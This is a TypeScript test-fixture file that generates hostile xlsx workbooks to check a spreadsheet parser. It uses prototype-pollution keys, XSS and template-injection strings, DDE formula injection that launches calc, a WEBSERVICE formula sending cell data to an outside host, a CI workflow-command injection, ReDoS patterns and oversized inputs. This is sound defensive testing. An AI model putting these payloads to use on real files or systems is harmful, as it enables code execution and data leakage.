import { bookParts, HELLO, zipped } from "../../workbook/gate-fixtures.ts";
import { STYLES } from "../../workbook/parts-package.ts";
import {
  book,
  cellBook,
  harmless,
  long,
  replaced,
  rowsBook,
  stringsBook,
  textBook,
  withParts,
  type HostileBook,
} from "./hostile-book.ts";

/** Values that turn into code, formulas, markup or prototypes where somebody is careless. */
export function poisonedValues(): readonly HostileBook[] {
  return [...prototypes(), ...injections(), ...formulas(), ...characters(), ...numbers()];
}

const PROTOTYPES = ["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf"];

function prototypes(): readonly HostileBook[] {
  const cell = (name: string): string => `<c t="inlineStr"><is><t>${name}</t></is></c>`;
  const row = `<row>${PROTOTYPES.map(cell).join("")}</row>`;
  const keys = PROTOTYPES.map((name) => `<row>${cell(name)}<c><v>1</v></c></row>`).join("");
  return [
    book("sheets-named-like-prototypes", "lembar-tidak-dikenal", () =>
      zipped(bookParts({ sheets: PROTOTYPES.map((name) => [name, HELLO] as const) })),
    ),
    book("meta-keys-named-like-prototypes", "lembar-hilang", () =>
      zipped(bookParts({ sheets: { _meta: keys } })),
    ),
    harmless("headings-named-like-prototypes", { "Koperasi!A1": "__proto__" }, () =>
      rowsBook(row + row),
    ),
    harmless("string-proto", { "Koperasi!A1": "__proto__" }, () =>
      stringsBook("<si><t>__proto__</t></si>"),
    ),
    ...prototypesOutsideCells(),
  ];
}

function prototypesOutsideCells(): readonly HostileBook[] {
  const kode = { "Koperasi!A1": "Kode" };
  const comment = '<comment ref="__proto__"><text><t>a</t></text></comment>';
  const name = '<definedNames><definedName name="__proto__">1</definedName></definedNames>';
  return [
    harmless("comment-on-proto", kode, () =>
      withParts({
        "xl/comments1.xml": `<comments><commentList>${comment}</commentList></comments>`,
      }),
    ),
    harmless("property-proto", kode, () =>
      withParts({ "docProps/custom.xml": '<p><property name="__proto__"><v>1</v></property></p>' }),
    ),
    harmless("defined-name-proto", kode, () =>
      replaced("xl/workbook.xml", "<sheets>", `${name}<sheets>`),
    ),
    harmless("attribute-proto", { "Koperasi!A1": 5 }, () =>
      cellBook('<c __proto__="1" r="A1" constructor="2"><f __proto__="x">1</f><v>5</v></c>'),
    ),
  ];
}

function injections(): readonly HostileBook[] {
  const text = (name: string, value: string): HostileBook =>
    harmless(`text-${name}`, { "Koperasi!A1": value }, () =>
      textBook(value.replaceAll("&", "&amp;").replaceAll("<", "&lt;")),
    );
  return [
    text("script", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
    text("template", "{{ constructor.constructor('return 1')() }} ${7*7} <%= 1 %>"),
    text("markdown", "[klik](javascript:alert(1)) ![x](http://a.id/x.png) @everyone #1"),
    text("workflow-command", "::set-env name=NODE_OPTIONS::--require /tmp/a"),
    text("csv-formula", "=cmd|'/c calc'!A0"),
    text("csv-plus", "+1+cmd|' /C calc'!A0"),
    text("csv-full-width", "＝1+1"),
    text("double-entity", "&lt;b&gt; &amp;amp; &#60;"),
    text("regex", "(a+)+$".repeat(50)),
  ];
}

function formulas(): readonly HostileBook[] {
  const formula = (name: string, text: string, value = "<v>5</v>"): HostileBook =>
    harmless(`formula-${name}`, { "Koperasi!A1": value === "" ? null : 5 }, () =>
      cellBook(`<c r="A1"><f>${text}</f>${value}</c>`),
    );
  const text = "&lt;![CDATA[".repeat(3);
  return [
    formula("dde", "cmd|'/c calc'!A0"),
    formula("of-another-book", "[1]Sheet1!A1"),
    formula("webservice", 'WEBSERVICE("http://a.id/"&amp;A2)'),
    formula("hyperlink", 'HYPERLINK("http://a.id","klik")'),
    formula("without-value", "1+1", ""),
    formula("unclosed-brackets", "(".repeat(60_000)),
    formula("references", "A1+".repeat(60_000)),
    harmless("formula-text-like-cdata", { "Koperasi!A1": `x${"<![CDATA[".repeat(3)}` }, () =>
      cellBook(`<c r="A1" t="str"><f>B1</f><v>x${text}</v></c>`),
    ),
    book("formula-text-4-mb-like-cdata", "berkas-melampaui-batas", () =>
      cellBook(`<c r="A1" t="str"><v>${long(4_000_000)}&lt;![CDATA[</v></c>`),
    ),
    ...wideFormulas(),
  ];
}

/** Programs fill what the file leaves blank: a person would see more than we read. */
function wideFormulas(): readonly HostileBook[] {
  const wide = (name: string, formula: string): HostileBook =>
    book(`formula-${name}`, "lembar-tidak-terbaca", () =>
      cellBook(`<c r="A1">${formula}<v>5</v></c>`),
    );
  return [
    wide("data-table", '<f t="dataTable" ref="A1:XFD1048576" dt2D="1"/>'),
    wide("array-of-four", '<f t="array" ref="A1:B2">{1,2;3,4}</f>'),
    wide("array-over-the-sheet", '<f t="array" ref="A1:XFD1048576">1</f>'),
    book("formulas-array-in-every-cell", "berkas-tidak-wajar berkas-melampaui-batas", () =>
      rowsBook(`<row>${'<c><f t="array" ref="A1:AN5000">1</f><v>1</v></c>'.repeat(250)}</row>`),
    ),
  ];
}

function characters(): readonly HostileBook[] {
  const reads = (name: string, written: string, value: string): HostileBook =>
    harmless(`character-${name}`, { "Koperasi!A1": value }, () => textBook(written));
  return [
    book("character-escaped-letters", "sel-galat lembar-hilang", () => textBook("_x0041__x0042_")),
    reads("nul", "a_x0000_b&#0;c", "a\0b\0c"),
    reads("escape", "a_x001B_[31mb", "a\u001b[31mb"),
    reads("lone-surrogate", "a_xD800_b", "a\ud800b"),
    reads("emoji", "&#128512;&#x1F600;", "😀😀"),
    reads("beyond-unicode", "a&#1114112;b", "a\ufffdb"),
    book("character-of-an-unknown-entity", "berkas-rusak", () => textBook("a&nama;b")),
    book("character-of-a-capital-entity", "berkas-rusak", () => textBook("a&AMP;b")),
    reads("bidi-override", "a\u202egnp.exe", "a\u202egnp.exe"),
    reads("zero-width", "Beroperasi\u200b\u2060\ufeff", "Beroperasi\u200b\u2060\ufeff"),
    reads("noncharacter", "a\ufffeb", "a\ufffeb"),
    book("character-marks-30000", "berkas-tidak-wajar", () =>
      textBook(`a${"\u0301\u0316".repeat(15_000)}`),
    ),
    book("character-marks-in-escapes", "berkas-tidak-wajar", () =>
      textBook(`a${"_x0301__x0316_".repeat(2_000)}`),
    ),
    harmless("character-marks-in-a-comment", { "Koperasi!A1": "Kode" }, () =>
      withParts({ "xl/comments1.xml": `<a><t>1${"\u0301\u0316".repeat(200_000)}</t></a>` }),
    ),
  ];
}

function numbers(): readonly HostileBook[] {
  const value = (name: string, written: string, read: string | number): HostileBook =>
    harmless(`number-${name}`, { "Koperasi!A1": read }, () =>
      cellBook(`<c r="A1" s="99999999"><v>${written}</v></c>`),
    );
  const format = (name: string, formatCode: string): HostileBook =>
    harmless(`format-${name}`, { "Koperasi!A1": 5 }, () =>
      withParts({
        [STYLES]: `<styleSheet><numFmts><numFmt numFmtId="99999" formatCode="${formatCode}"/></numFmts><cellXfs><xf/><xf numFmtId="99999"/></cellXfs></styleSheet>`,
        "xl/worksheets/sheet1.xml":
          '<worksheet><sheetData><row><c s="1"><v>5</v></c></row></sheetData></worksheet>',
      }),
    );
  return [
    value("too-large", "1e400", "1e400"),
    value("nan", "NaN", "NaN"),
    value("infinity", "-Infinity", "-Infinity"),
    value("hexadecimal", "0xFF", "0xFF"),
    value("comma", "1,5", "1,5"),
    value("a-million-digits", "1".repeat(30_000), "1".repeat(30_000)),
    value("tiny", "5e-324", 5e-324),
    format("of-30000-sections", "0;".repeat(15_000)),
    format("script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    book("error-proto", "lembar-hilang", () => cellBook('<c r="A1" t="e"><v>__proto__</v></c>')),
  ];
}
